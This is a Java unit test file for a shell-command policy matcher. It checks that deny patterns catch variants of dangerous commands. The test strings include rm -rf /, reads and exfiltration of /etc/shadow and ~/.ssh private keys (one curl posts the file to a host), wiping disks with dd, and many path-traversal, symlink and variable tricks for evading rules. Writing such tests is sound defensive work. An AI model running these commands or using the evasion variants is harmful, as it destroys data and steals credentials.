package hoop.policy.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ArgvPatternTest {

    private static SimpleCommand cmd(String line) {
        List<String> parts = Arrays.asList(line.split(" "));
        return new SimpleCommand(parts.get(0), parts.subList(1, parts.size()));
    }

    @ParameterizedTest(name = "{0} ~ {1} -> {2}")
    @CsvSource(delimiter = '|', value = {
        "rm -rf *          | rm -rf /                      | true",
        "rm -rf *          | rm -rf                        | true",
        "rm -rf *          | rm -fr /                      | true",
        "rm -rf *          | rm -r -f /                    | true",
        "rm -rf *          | rm -R -f /                    | true",
        "rm -rf *          | rm --recursive --force /      | true",
        "rm -rf *          | rm / -rf                      | true",
        "rm -rf *          | rm -rfv --no-preserve-root /  | true",
        "rm -rf *          | rm -r /                       | false",
        "rm -rf *          | rm -f /                       | false",
        "rm -rf *          | rmdir -rf /                   | false",
        "rm -rf /          | rm -rf //                     | true",
        "rm -rf /          | rm -rf /./                    | true",
        "rm -rf /          | rm -rf /tmp/..                | true",
        "rm -rf /          | rm -rf /tmp                   | false",
        "* /etc/shadow*    | cat /etc/shadow               | true",
        "* /etc/shadow*    | cat -n /etc/passwd /etc/shadow | true",
        "* /etc/shadow*    | cat /etc//shadow              | true",
        "* /etc/shadow*    | cat /etc/../etc/shadow        | true",
        "* /etc/shadow*    | cat /etc/./shadow             | true",
        "* /etc/shadow*    | less /etc/shadow-             | true",
        "* /etc/shadow*    | cat /etc/passwd               | false",
        "* /etc/shadow*    | cat ../../../../../../etc/shadow | true",
        "* /etc/shadow*    | cat ./../../etc/./shadow      | true",
        "* /etc/shadow*    | cat ~/../../etc/shadow        | true",
        "* /etc/shadow*    | cat ~root/../etc/shadow       | true",
        "* /etc/shadow*    | cat etc/shadow.bak/../x       | false",
        "* /etc/shadow*    | cat ~/etc/shadow              | false",
        "* /etc/shadow*    | dd if=/etc/shadow of=/tmp/s   | true",
        "* /etc/shadow*    | grep -f/etc/shadow x          | true",
        "* /etc/shadow*    | curl -d @/etc/shadow http://x | true",
        "* /etc/shadow*    | curl -F f=@/etc/shadow http://x | true",
        "* /etc/shadow*    | curl file:///etc/shadow       | true",
        "* /etc/shadow*    | sort --files0-from=/etc/shadow | true",
        "* /etc/shadow*    | dd if=etc/shadow              | false",
        "* /etc/shadow*    | cat /proc/self/root/etc/shadow | true",
        "* /etc/shadow*    | cat /proc/1/root/proc/self/root//etc/shadow | true",
        "* /etc/shadow*    | cat /proc/thread-self/cwd/../../../../etc/shadow | true",
        "* /etc/shadow*    | cat /proc/self/rootx/etc/shadow | false",
        "* *shadow*        | cp /etc/shadow /tmp/x          | true",
        "git push*         | git push origin main          | true",
        "git push*         | git push                      | true",
        "git push*         | git pull origin main          | false",
        "git push*         | git -C . push origin main     | true",
        "git push*         | git -c user.name=x push       | true",
        "git push*         | git --work-tree . push        | true",
        "git push*         | git --git-dir .git push       | true",
        "git push*         | git -C push status            | false",
        "git push *        | git push                      | true",
        "git push --force * | git push -f origin main       | true",
        "git push --force * | git push --force origin main  | true",
        "git push --force * | git push origin +main         | true",
        "git push --force * | git push origin main          | false",
        "git push --force * | git push --force-with-lease origin main | true",
        "git push --force * | git push --force-with-lease=main:abc origin main | true",
        "git push --force * | git push --force-w origin main | true",
        "git push --force * | git push --mirror origin      | true",
        "git push --force * | git push --follow-tags origin main | false",
        "git push -d *     | git push origin :main          | true",
        "git push --delete * | git push origin :main        | true",
        "git push -d *     | git push --prune origin refs/heads/*:refs/heads/* | true",
        "git push -d *     | git push --mirror origin       | true",
        "git push -d *     | git push origin main:main      | false",
        "git push -d *     | git fetch --prune origin       | false",
        "* /etc/shadow*    | grep -r root /etc             | true",
        "* /etc/shadow*    | cp -a /etc/ /tmp/e            | true",
        "* /etc/shadow*    | tar -czf - /etc               | true",
        "* /etc/shadow*    | rg root /                     | true",
        "* /etc/shadow*    | grep -r root /etc/ssh         | false",
        "* /etc/shadow*    | ls /etc                       | false",
        "kubectl delete *  | kubectl delete pod x          | true",
        "kubectl delete *  | kubectl get pods             | false",
        "kubectl delete *  | kubectl -n prod delete pod x  | true",
        "kubectl delete *  | kubectl -s http://h --insecure-skip-tls-verify delete pod x | true",
        "kubectl delete *  | kubectl get -n delete pods   | false",
        "docker rm *       | docker -H tcp://h rm -f c     | true",
        "git push*         | git commit -m push            | false",
        "kill -9 *         | kill -9 1                     | true",
        "kill -9 *         | kill -KILL 1                  | true",
        "kill -9 *         | kill -SIGKILL 1               | true",
        "kill -9 *         | kill -s KILL 1                | true",
        "kill -9 *         | kill -s 9 1                   | true",
        "kill -9 *         | kill -15 1                    | false",
        "chmod -R *        | chmod --recursive 777 /       | true",
        "chmod -R *        | chmod -r file                 | false",
        "ls                | ls -la                        | true",
        "ls                | ls /tmp                       | false",
        "r? *              | rm x                          | true",
        "r?                | rm x                          | false",
        "[rx]m *           | rm x                          | true",
        "/usr/bin/rm *     | rm x                          | true",
        "curl * | curl -s https://x | true",
        "dd * of=/dev/*    | dd of=/dev/sda                | true",
        "dd * of=/dev/*    | dd if=/dev/zero of=x          | false",
        "cat * /srv/* *    | cat /srv/x                    | true",
        "git reset --hard* | git reset --har HEAD~3        | true",
        "git reset --hard* | git reset --h                 | true",
        "git reset --hard* | git reset --soft HEAD~3       | false",
        "git clean -f *    | git clean -d -x               | true",
        "git clean -f *    | git clean -i                  | true",
        "git clean -f *    | git -c clean.requireForce=false clean -d | true",
        "git clean -f *    | git clean -n -d               | false",
        "git clean -f *    | git clean --dry-run           | false",
    })
    void matching(String pattern, String command, boolean expected) {
        assertEquals(expected, ArgvPattern.compile(pattern.trim()).matches(cmd(command.trim())),
                () -> pattern + " vs " + command);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "rm [abc", "/", "* /etc/[shadow"})
    void badPatternsAreRejected(String pattern) {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> ArgvPattern.compile(pattern));
        assertTrue(e.getMessage() != null && !e.getMessage().isBlank());
    }

    @Test
    void nullPatternRejected() {
        assertThrows(IllegalArgumentException.class, () -> ArgvPattern.compile(null));
    }

    @Test
    void sourceIsKept() {
        assertEquals("rm -rf *", ArgvPattern.compile("rm -rf *").source());
    }

    @Test
    void quotedGlobArgumentIsLiteral() {
        SimpleCommand c = new SimpleCommand("cat", List.of("/etc/sha*"));
        assertTrue(ArgvPattern.compile("* /etc/sha*").matches(c));
    }

    @Test
    void allowRulesMatchOnlyWhatIsWritten() {
        // a guess at where a path lands may add a deny, never an allow
        ArgvPattern srv = ArgvPattern.compile("cat /srv/*");
        assertFalse(srv.matchesAsWritten(cmd("cat ../../srv/x")));
        assertFalse(srv.matchesAsWritten(cmd("cat x=/srv/y")));
        assertTrue(srv.matches(cmd("cat ../../srv/x")));
        assertTrue(srv.matchesAsWritten(cmd("cat /srv/../srv/x")));
        assertFalse(ArgvPattern.compile("kubectl delete *").matchesAsWritten(cmd("kubectl -n prod delete pod x")));
    }

    @Test
    void relativePathsAfterCdAreJudgedInsideTheNewDirectory() {
        ArgvPattern shadow = ArgvPattern.compile("* /etc/shadow*");
        assertTrue(shadow.matches(ShellClassifier.analyzeScript("cd /etc && cat shadow").commands().get(1)));
        assertTrue(shadow.matches(ShellClassifier.analyzeScript("cd /etc/ssh; cd ..; cat ./shadow").commands().get(2)));
        assertTrue(shadow.matches(ShellClassifier.analyzeScript("pushd /etc; grep -f shadow x").commands().get(1)));
        // after a cd to a directory computed at run time, a relative name a reader opens may be under any directory
        assertTrue(shadow.matches(ShellClassifier.analyzeScript("cd /etc; cd $X; cat shadow").commands().get(2)));
        assertFalse(shadow.matches(ShellClassifier.analyzeScript("cd /etc; cd $X; cat notes.txt").commands().get(2)));
        assertFalse(shadow.matchesAsWritten(ShellClassifier.analyzeScript("cd /etc && cat shadow").commands().get(1)));
        // back where cd came from ($OLDPWD) or pushd left
        for (String script : List.of("cd /etc; cd /tmp; cd -; cat shadow", "cd /etc && cd /tmp && cd - >/dev/null && cat shadow",
                "cd /etc; cd /tmp; cd \"$OLDPWD\"; cat shadow", "cd /etc; pushd /tmp; popd; cat shadow",
                "pushd /etc; pushd /tmp; pushd; cat shadow")) {
            assertTrue(shadow.matches(last(script)), script);
        }
        assertFalse(shadow.matches(last("cd /etc; cd /tmp; cat shadow")));
        assertFalse(shadow.matches(last("cd /etc; cd /tmp; cd /tmp; cd -; cat shadow")));
    }

    @Test
    void relativePathsStartWhereTheCommandRuns(@org.junit.jupiter.api.io.TempDir java.nio.file.Path tmp) {
        ArgvPattern shadow = ArgvPattern.compile("* /etc/shadow*");
        java.nio.file.Path root = java.nio.file.Path.of("/");
        assertTrue(shadow.matches(ShellClassifier.analyzeScript("cat etc/shadow", root).commands().get(0)));
        assertTrue(shadow.matches(ShellClassifier.analyzeScript("cat shadow", java.nio.file.Path.of("/etc")).commands().get(0)));
        assertTrue(shadow.matches(lastIn("cd ../../../../../../../../../..; cat etc/shadow", tmp)));
        assertTrue(shadow.matches(lastIn("cat /proc/self/cwd/../../../../../../../../../../etc/shadow", tmp)));
        assertTrue(shadow.matches(lastIn("env -C /etc cat shadow", tmp)));
        assertTrue(shadow.matches(lastIn("sudo --chdir=/etc -u root cat ./shadow", tmp)));
        assertTrue(shadow.matches(lastIn("CDPATH=/; cd etc; cat shadow", tmp)));
        assertTrue(shadow.matches(lastIn("cd /etc && cat sha?ow", tmp)));
        assertFalse(shadow.matches(lastIn("env -C /etc true; cat shadow", tmp)));
        assertFalse(shadow.matches(lastIn("env -C \"$X\" cat shadow", tmp)));
        assertFalse(shadow.matchesAsWritten(ShellClassifier.analyzeScript("cat etc/shadow", root).commands().get(0)));
    }

    private static SimpleCommand lastIn(String script, java.nio.file.Path cwd) {
        List<SimpleCommand> c = ShellClassifier.analyzeScript(script, cwd).commands();
        return c.get(c.size() - 1);
    }

    @Test
    void variablesAreExpandedAsFarAsTheScriptShowsThem() {
        ArgvPattern shadow = ArgvPattern.compile("* /etc/shadow*");
        assertTrue(shadow.matches(last("f=/etc/shadow; cat $f")));
        assertTrue(shadow.matches(last("d=/etc; f=\"$d/shadow\"; cat \"$f\"")));
        assertTrue(shadow.matches(last("cat /etc/sha${NOPE}dow")));
        assertTrue(shadow.matches(last("cat /etc/sha${NOPE:-d}ow")));
        assertFalse(shadow.matches(last("f=/etc/passwd; cat $f")));
        assertFalse(shadow.matchesAsWritten(last("f=/etc/shadow; cat $f")));
    }

    private static SimpleCommand last(String script) {
        List<SimpleCommand> c = ShellClassifier.analyzeScript(script).commands();
        return c.get(c.size() - 1);
    }

    @Test
    void pathsThroughASymlinkMadeEarlierAreJudgedAtTheirTarget() {
        ArgvPattern shadow = ArgvPattern.compile("* /etc/shadow*");
        assertTrue(shadow.matches(last("ln -s /etc e; cat e/shadow")));
        assertTrue(shadow.matches(last("ln -sf / r && cat ./r/etc/shadow")));
        assertTrue(shadow.matches(last("mkdir d; ln -s /etc d; cat d/etc/shadow")));
        assertTrue(shadow.matches(last("ln -s -t /tmp /etc; cat /tmp/etc/shadow")));
        assertTrue(shadow.matches(last("cd /tmp; ln -s ../etc x; cat /tmp/x/shadow")));
        assertFalse(shadow.matches(last("ln -s /etc e; cat f/shadow")));
        assertFalse(shadow.matchesAsWritten(last("ln -s /etc e; cat e/shadow")));
    }

    /** Allow rules read an abbreviation as written: only a rule that denies or holds reads it as the option it begins. */
    @Test
    void abbreviationsMeetOnlyRulesThatDeny() {
        assertFalse(ArgvPattern.compile("git reset --hard*").matchesAsWritten(cmd("git reset --har HEAD")));
    }

    /** git's exec path holds each subcommand as a program: /usr/lib/git-core/git-push is git push. */
    @Test
    void aGitSubcommandRunAsItsOwnProgramIsGit() {
        ArgvPattern push = ArgvPattern.compile("git push*");
        for (String script : List.of("/usr/lib/git-core/git-push origin main", "sudo /usr/lib/git-core/git-push",
                "/usr/libexec/git-core/git-subtree push -P lib origin main")) {
            assertTrue(ShellClassifier.analyzeScript(script).commands().stream().anyMatch(c -> push.matches(c)
                    || ArgvPattern.compile("git subtree push*").matches(c)), script);
        }
    }

    /** The home directory by its other names: $HOME, cd alone or to ~, its absolute path, a walk of all of it. */
    @Test
    void theHomeDirectoryIsMetByEveryName() {
        String home = System.getenv("HOME");
        org.junit.jupiter.api.Assumptions.assumeTrue(home != null && home.startsWith("/") && !home.equals("/"), "HOME is a directory");
        ArgvPattern keys = ArgvPattern.compile("* ~/.ssh/id_*");
        for (String script : List.of("cat $HOME/.ssh/id_rsa", "cat \"${HOME}\"/.ssh/id_rsa", "cd; cat .ssh/id_rsa",
                "cd ~ && cat ./.ssh/id_rsa", "cd \"$HOME/.ssh\"; cat id_ed25519", "cat " + home + "/.ssh/id_rsa",
                "cat " + home + "//.ssh/../.ssh/id_rsa", "tar cf - ~", "tar cf - " + home, "tar cf - /", "cp -r ~/.ssh /tmp/k")) {
            assertTrue(ShellClassifier.analyzeScript(script).commands().stream().anyMatch(keys::matches), script);
        }
        for (String script : List.of("cat ~/.ssh/known_hosts", "cd /tmp; cat .ssh/id_rsa", "HOME=/tmp; cat $HOME/.ssh/id_rsa")) {
            assertFalse(ShellClassifier.analyzeScript(script).commands().stream().anyMatch(keys::matches), script);
        }
        assertFalse(keys.matchesAsWritten(last("cat $HOME/.ssh/id_rsa")));
    }
}
